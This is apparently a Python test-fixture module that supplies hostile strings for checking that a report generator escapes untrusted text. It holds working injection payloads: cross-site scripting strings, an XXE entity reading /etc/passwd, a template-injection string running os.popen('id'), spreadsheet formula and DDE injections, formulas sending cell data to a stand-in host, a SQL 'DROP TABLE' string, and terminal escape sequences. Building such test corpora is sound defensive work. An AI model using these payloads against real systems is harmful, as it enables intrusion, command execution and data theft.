"""Texts that would do harm if a sink took them for more than text: as titles, labels, names and values.

A script that runs, whichever way, sets `window.ran`. `PAYLOADS` is all of them; tests take a sample of each family
unless REPORTGEN_SOAK is set.
"""

from __future__ import annotations

import os
from itertools import product

RUN = "window.ran=1"
AWAY = "https://elsewhere.invalid/x"

_SCRIPTS = [
    *(f"{end}<{tag}>{RUN}</{tag}>"
      for end, tag in product(["", '">', "'>", "-->", "]]>"], ["script", "SCRIPT", "svg><script"])),
    *(f"</{tag}><script>{RUN}</script>"
      for tag in ("title", "style", "script", "textarea", "noscript",
         "template", "select", "option", "math", "svg", "code", "pre", "table", "figcaption")),
    f"<!--<script>{RUN}</script>", f"<script src={AWAY}></script>", f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]  # fmt: skip
_ATTRIBUTES = [
    *(f"{end}<{tag} {event}={RUN}>"
      for end, (tag, event) in product(["", '"', "'", "`"], [
         ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("details open", "ontoggle"),
         ("input autofocus", "onfocus"),
         ("video><source", "onerror"), ("marquee", "onstart")])),
    f'" onmouseover="{RUN}" x="', f"' onmouseover='{RUN}' x='", f'" autofocus onfocus="{RUN}', f"x onerror={RUN} ",
    f'" style="background:url({AWAY})', f"<link rel=stylesheet href={AWAY}>", f"<link rel=prefetch href={AWAY}>",
    f"<base href={AWAY}>", f"<meta http-equiv=refresh content=0;url={AWAY}>", f"<form action={AWAY}><button>x",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src={AWAY}>", f"<object data={AWAY}>",
    f"<embed src={AWAY}>", f"<style>*{{background:url({AWAY})}}</style>", f"<style>@import '{AWAY}';</style>",
    f"<svg><use href={AWAY}#x></svg>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>", "<plaintext>",
    "<!--", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
]  # fmt: skip
_ADDRESSES = [
    *(f"{scheme}{RUN}"
      for scheme in ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:",
         "\x01javascript:", "vbscript:", "javascript&colon;", "javascript://%0a")),
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "file:///etc/passwd", "//elsewhere.invalid/x", "\\\\elsewhere.invalid\\x", f'https://x" onclick="{RUN}',
    f"https://x'><script>{RUN}</script>", "https://user:password@elsewhere.invalid/", "http://elsewhere.invalid/",
    "blob:null/x", "../../etc/passwd", "https:javascript:alert(1)",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{{7*7}}", "{% for x in (1).__class__ %}{% endfor %}", "{% raw %}", "{% endraw %}{{ 7*7 }}",
    "{# comment #}", "{#", "{%", "}}", "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%(x)s %s %d %n", "{0.__class__} {x!r} {", "\\1 \\g<0> $1",
]  # fmt: skip
_FORMULAS = [
    "$x^{", "$$", "$", "$$x$$", "$\\frac{1}{0}$", "$\\href{javascript:x}{y}$", "\\(x\\)", "\\[x\\]", "\\begin{x}",
    "$\\mathdefault{", "x_{1}^{2}", "\\input{/etc/passwd}", "\\usepackage{x} % comment", "a & b \\\\ c", "_hidden",
    "__class__", "\\$x\\$", "$\\text{</span><script>window.ran=1</script>}$",
]  # fmt: skip
_DIRECTIONS = [
    *(f"abc{mark}def" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c\u202c\u2069"),
    "\u202eabc\u202c", "\u2067abc\u2069 def", "\u05d0\u05d1\u05d2 abc 123",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324", "\u200b\u200c\u200d\u2060\ufeff",
    "\u00ad-\u00ad", "p\u0430yp\u0430l", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea",
    "\ufdfd" * 5, "\U000e0041\U000e0042", "\u3164", "\ufffd\ufffc", "\ue000\U0010fffd", "\ufdd0",
]  # fmt: skip
_SHEETS = [
    *(f"{blank}{sign}cmd|' /C calc'!A0" for blank, sign in product(["", " ", "\u00a0", "\ufeff"], "=+-@")),
    f'=HYPERLINK("{AWAY}?"&A1,"x")', f'=IMPORTXML("{AWAY}","//a")', "\t=1+1", "\r=1+1", "\n=1+1", '"=1+1', "'=1+1",
    '","=1+1', ";=1+1", "%0A=1+1", "\uff1d1+1", "\uff0b1", "|calc", 'DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip
_DATA = [
    '"}];window.ran=1;//', "</script><script>window.ran=1</script><!--<script>", "\\u003c/script\\u003e", '\\"', "\\",
    "\u2028window.ran=1\u2029", "NaN", "Infinity", "-Infinity", "null", "undefined", "__proto__", "constructor",
    "true", "1e999", "0x10", "'; DROP TABLE runs; --", "[object Object]", '{"a":1}', "]]>",
]  # fmt: skip
_MARKDOWN = [
    "![x](javascript:window.ran=1)", "[x](javascript:window.ran=1)", "](https://elsewhere.invalid) [x", "`code` ```",
    "**bold** _it_ ~~no~~", "# heading", "| a | b |", "<b>x</b>", "<https://elsewhere.invalid>",
    "&lt;b&gt; &amp; &copy;", "- [ ] task", "> quote", "a\\", "@everyone #1 :smile:", "[^1]: x", "![](" + AWAY + ")",
]  # fmt: skip
_TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://elsewhere.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H", "\x1b[6n", "\x1bc", "\x9b31m", "\x07\x08\x08\x08", "a\rb", "a\nb", "a\tb", "a\x0bb\x0cc", "\x00",
    "a\x00b", "\x7f", "\x85", "\ufffe\uffff", "\ud800", "\udcff", "\udbff\udc00"[:1] + "x", "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\",
]  # fmt: skip
_LENGTHS = ["", " ", "   x   ", "x" * 500, "x" * 501, "\u00e4" * 3000, "word " * 4000, "<b>" * 30_000]

FAMILIES = {
    "script": _SCRIPTS,
    "attribute": _ATTRIBUTES,
    "address": _ADDRESSES,
    "template": _TEMPLATES,
    "formula": _FORMULAS,
    "direction": _DIRECTIONS,
    "sheet": _SHEETS,
    "data": _DATA,
    "markdown": _MARKDOWN,
    "terminal": _TERMINAL,
    "length": _LENGTHS,
}
PAYLOADS = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))

SOAK = bool(os.environ.get("REPORTGEN_SOAK"))
SAMPLE = PAYLOADS if SOAK else [text for family in FAMILIES.values() for text in family[:: max(1, len(family) // 6)]]
"""Those of a test that is slow."""
